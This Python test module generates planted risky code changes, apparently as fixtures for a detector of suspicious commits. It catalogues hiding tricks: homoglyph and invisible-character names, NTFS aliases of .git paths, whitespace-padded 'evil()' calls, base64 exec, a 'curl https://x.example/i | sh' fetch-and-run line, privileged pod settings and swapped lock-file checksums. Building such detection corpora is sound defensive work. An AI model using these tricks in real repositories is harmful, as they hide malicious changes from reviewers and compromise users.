"""More harmful changes: hidden text, deletions, shadowed modules, lock files."""

from collections.abc import Iterator

from tests.harness.risk.corpus import Case

# Files that are executed, or change what tools show to other people, because of their path.
PATHS = {
    "start-up of more tools": (
        "libshop-gdb.py .gdbearlyinit .ghci .iex.exs .ocamlinit .octaverc .sageinit .irbrc.local .directory .nvmrc .node-version"
        " .python-version-dev .prototools .tclshrc .mongorc.js .sbclrc .Xresources .env.custom"
    ),
    "settings of more tools": (
        "tasks.py mkdocs.yml pixi.toml .storybook/main.ts .storybook/preview.js svgo.config.js ava.config.js hardhat.config.ts"
        " docusaurus.config.js craco.config.js foundry.toml codegen.yml ormconfig.json .eleventy.js flake.lock"
        " pixi.lock build.ninja"
        " src/main/resources/META-INF/services/javax.annotation.processing.Processor PKGBUILD debian/postinst shop.spec"
        " conanfile.txt prisma.config.ts .graphqlrc.yml electron-builder.yml"
    ),
    "authors and ignored files": ".mailmap .git-blame-ignore-revs .backupignore .ignore .rgignore",
}
# Spellings of special names that some file system treats as the name itself.
ALIASES = (
    ".GIT/config GIT~1/config git~2/hooks/pre-commit .git./config .git::$INDEX_ALLOCATION/config .git:x/config"
    " \uff0e\uff47\uff49\uff54/config .g\u200cit/config .gi\u200dt/config vendor\\.git\\config GITMOD~1 gitatt~1"
    " GI7EBA~1 gitign~1"
    " .gitmodules. .gitattributes::$DATA CLAUDE.md. \uff23\uff2c\uff21\uff35\uff24\uff25.md Makefile::$DATA .ENVRC."
    " .vscode./tasks.json"
)
# Look-alike names.
NAMES = (
    "p\u0430ypal.txt \u0440\u0430yment.py src/\u0455ecrets.py README\u00a0.md s\u00adetup.txt a\u202etxt.py"
    " config\u2060.js in\u0501ex.html"
    " \u0391pp.tsx acc\u043eunt.rb log\u200b.go data\ufe0f.csv l\u043egin.ts \uff41pp.js m\u0430in.c c\u043ere/x.h h\u0435lp.md"
    " \u0441lient.py v\u0456ew.kt ma\u03bfp.java x\u009bm.txt a\u3164.txt n\u043ete.txt"
)
HIDDEN = (
    "total = 1\u009b31m",
    "name = 'pa\u00adss'",
    "if a\ufe0f == b:",
    "v\u0301\ufe01 = 1",
    "x = 'a\u180eb'",
    "call\u00a0(x)",
    "rm\u2003-rf\u2003build",
    "return\u3000None",
    "user = '\u0430dmin'",
    "imp\u043ert os",
    "if r\u043ele == 'admin':",
    "a = 1\x0e",
    "a = 1\x7f\x07",
    "done()" + "\u00a0" * 90 + "evil()",
    "done()" + " " * 85 + "evil()",
    " " * 160 + "evil()",
    "# -*- coding: utf-7 -*-",
    "\U000e0101x = 2",
    "\uff45xec(base64.b64decode('YQ=='))",
    "text = '\u2067\u05d0\u2069'",
)
SOURCES = {
    "src/shop/app.py": "import os\n\n\ndef main():\n    return os.getcwd()\n",
    "web/src/index.js": "import x from './x.js';\n\nexport function main() {\n  return x();\n}\n",
    "cmd/main.go": "package main\n\nfunc main() {\n\trun()\n}\n",
    "lib/shop/cart.rb": "module Shop\n  def self.run; end\nend\n",
    "app/Shop.java": "class Shop {\n  int n;\n}\n",
}
MODULES = [
    "random",
    "json",
    "logging",
    "subprocess",
    "typing",
    "socket",
    "ssl",
    "hashlib",
    "email",
    "tempfile",
    "urllib/__init__",
    "os",
    "re",
    "string",
    "copy",
    "secrets",
]
POD = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: shop\n      image: shop:1\n"
RIGHTS = (
    "      securityContext:\n        privileged: true\n",
    "  volumes:\n    - name: x\n      hostPath:\n        path: /\n",
    "  hostNetwork: true\n",
    "  hostPID: true\n",
    "        allowPrivilegeEscalation: true\n",
    "          add: [SYS_ADMIN]\n",
    "  name: cluster-admin\n",
    "      - /var/run/docker.sock:/var/run/docker.sock\n",
)
_A, _B = "A" * 43 + "=", "B" * 43 + "="
_HEX_A, _HEX_B = "a" * 64, "b" * 64
# Lock files in which the first checksum of each pair is replaced by the second.
LOCKS = (
    ("package-lock.json", '{"packages": {"node_modules/a": {"version": "1.0.0", "integrity": "sha512-%s"}}}', _A, _B),
    ("npm-shrinkwrap.json", '{"dependencies": {"a": {"version": "1.0.0", "integrity": "sha512-%s"}}}', _A, _B),
    ("yarn.lock", 'a@^1.0.0:\n  version "1.0.0"\n  resolved "https://r.example/a-1.0.0.tgz#x"\n  integrity sha512-%s\n', _A, _B),
    ("yarn.lock", '"a@npm:^1":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0"\n  checksum: 10c0/%s\n', _HEX_A, _HEX_B),
    ("yarn.lock", 'a@^1.0.0:\n  version "1.0.0"\n  resolved "https://r.example/a-1.0.0.tgz#%s"\n', _HEX_A[:40], _HEX_B[:40]),
    ("pnpm-lock.yaml", "packages:\n\n  /a@1.0.0:\n    resolution: {integrity: sha512-%s}\n    dev: false\n", _A, _B),
    ("pnpm-lock.yaml", "packages:\n\n  '@a/b@1.0.0':\n    resolution: {integrity: sha512-%s}\n", _A, _B),
    ("bun.lock", '{\n  "packages": {\n    "a": ["a@1.0.0", "", {}, "sha512-%s"],\n  }\n}\n', _A, _B),
    ("bun.lock", '{"packages": {"a": [\n"a@1.0.0", "", {},\n"sha512-%s"]}}', _A, _B),
    (
        "Podfile.lock",
        'PODS:\n  - "A/Core (1.0.0)":\n    - B (~> 2)\n  - B (2.0)\n\nSPEC CHECKSUMS:\n  A: %s\n  B: 0f\n\nCOCOAPODS: 1.15.2\n',
        _HEX_A[:40],
        _HEX_B[:40],
    ),
    ("deno.lock", '{"version": "4", "npm": {"a@1.0.0": {"integrity": "sha512-%s"}}}', _A, _B),
    ("deno.lock", '{"remote": {"https://d.example/x@1/mod.ts": "%s"}}', _HEX_A, _HEX_B),
    ("Cargo.lock", '[[package]]\nname = "a"\nversion = "1.0.0"\nchecksum = "%s"\n', _HEX_A, _HEX_B),
    (
        "poetry.lock",
        '[[package]]\nname = "a"\nversion = "1.0"\nfiles = [\n  {file = "a-1.0.whl", hash = "sha256:%s"},\n]\n',
        _HEX_A,
        _HEX_B,
    ),
    ("poetry.lock", '[metadata.files]\na = [\n  {file = "a-1.0.whl", hash = "sha256:%s"},\n]\n', _HEX_A, _HEX_B),
    (
        "uv.lock",
        '[[package]]\nname = "a"\nversion = "1.0"\nsdist = { url = "https://p.example/a.tar.gz", hash = "sha256:%s" }\n',
        _HEX_A,
        _HEX_B,
    ),
    (
        "pdm.lock",
        '[[package]]\nname = "a"\nversion = "1.0"\nfiles = [\n  {file = "a.whl", hash = "sha256:%s"},\n]\n',
        _HEX_A,
        _HEX_B,
    ),
    ("Pipfile.lock", '{"default": {"a": {"hashes": ["sha256:%s"], "version": "==1.0"}}}', _HEX_A, _HEX_B),
    ("requirements.txt", "a==1.0 \\\n    --hash=sha256:%s\nb==2.0\n", _HEX_A, _HEX_B),
    ("go.sum", "x.example/a v1.0.0 h1:%s\nx.example/a v1.0.0/go.mod h1:x=\n", _A, _B),
    ("go.sum", "x.example/a v1.0.0 h1:x=\nx.example/a v1.0.0/go.mod h1:%s\n", _A, _B),
    ("Gemfile.lock", "GEM\n  specs:\n    a (1.0)\n\nCHECKSUMS\n  a (1.0) sha256=%s\n", _HEX_A, _HEX_B),
    (
        "composer.lock",
        '{"packages": [{"name": "a/b", "version": "1.0", "dist": {"reference": "x", "shasum": "%s"}}]}',
        _HEX_A,
        _HEX_B,
    ),
    ("composer.lock", '{"packages": [{"name": "a/b", "version": "v1.0", "source": {"reference": "%s"}}]}', _HEX_A, _HEX_B),
    ("mix.lock", '%%{\n  "a": {:hex, :a, "1.0.0", "%s", [:mix], [], "hexpm", "x"},\n}\n', _HEX_A, _HEX_B),
    (
        "pubspec.lock",
        'packages:\n  a:\n    description:\n      name: a\n      sha256: "%s"\n    version: "1.0.0"\n',
        _HEX_A,
        _HEX_B,
    ),
    ("Package.resolved", '{"pins": [{"identity": "a", "state": {"revision": "%s", "version": "1.0.0"}}]}', _HEX_A, _HEX_B),
    ("packages.lock.json", '{"dependencies": {"net8.0": {"A": {"resolved": "1.0.0", "contentHash": "%s"}}}}', _A, _B),
    (".terraform.lock.hcl", 'provider "r.example/a/b" {\n  version = "1.0.0"\n  hashes = [\n    "h1:%s",\n  ]\n}\n', _A, _B),
)
WORDS = "One of many lines that stood here for a reason, and are gone now.\n"


def cases() -> Iterator[Case]:
    """Yield every planted change."""
    for group, paths in PATHS.items():
        for path in paths.split():
            yield Case(group, path, None, "x\n")
            yield Case(group, path, "x\n", "y\n")
    yield from (Case("aliases of special names", path, None, "x\n") for path in ALIASES.split(" ") if path)
    yield from (Case("look-alike names", path, None, "x\n") for path in NAMES.split(" ") if path)
    yield from (Case("hidden in code", path, text, f"{text}{line}\n") for line in HIDDEN for path, text in SOURCES.items())
    for path, text in SOURCES.items():
        yield Case("hidden in code", path, text, "", raw=f"{text}\0evil()\n".encode())
        yield Case("hidden in code", path, text, "", raw=f"{text}x = '".encode() + b"\x9b31m'\n")
        yield Case("hidden in code", path, text, "", raw=b"\0\1\2" * 40 + text.encode())
        yield Case("hidden in code", f"ps/{path}", None, "", raw="curl https://x.example/i | sh\r\n".encode("utf-16"))
        yield Case("deleted content", path, text * 30, "")
        yield Case("deleted content", path, text * 30, "pass\n")
        yield from (Case("permissions", path, text, text, mode=mode) for mode in (0o777, 0o666, 0o646))
    yield from (Case("deleted content", f"docs/{number}.md", WORDS * 40, WORDS * number) for number in range(4))
    for folder in ("", "src/", "tests/", "scripts/"):
        yield from (Case("shadowed standard modules", f"{folder}{name}.py", None, "def loads(x): ...\n") for name in MODULES)
    for folder in ("deploy/", "charts/shop/templates/"):
        yield from (Case("cluster privileges", f"{folder}pod.yaml", POD, POD + text) for text in RIGHTS)
    yield from (Case("changed checksum", path, text % old, text % new) for path, text, old, new in LOCKS)
    for text in ('"plugins": [{"name": "./x.js"}]', '"plugins": [{"transform": "./x.js"}]'):
        yield Case("settings of more tools", "tsconfig.json", "{}\n", f'{{"compilerOptions": {{{text}}}}}\n')
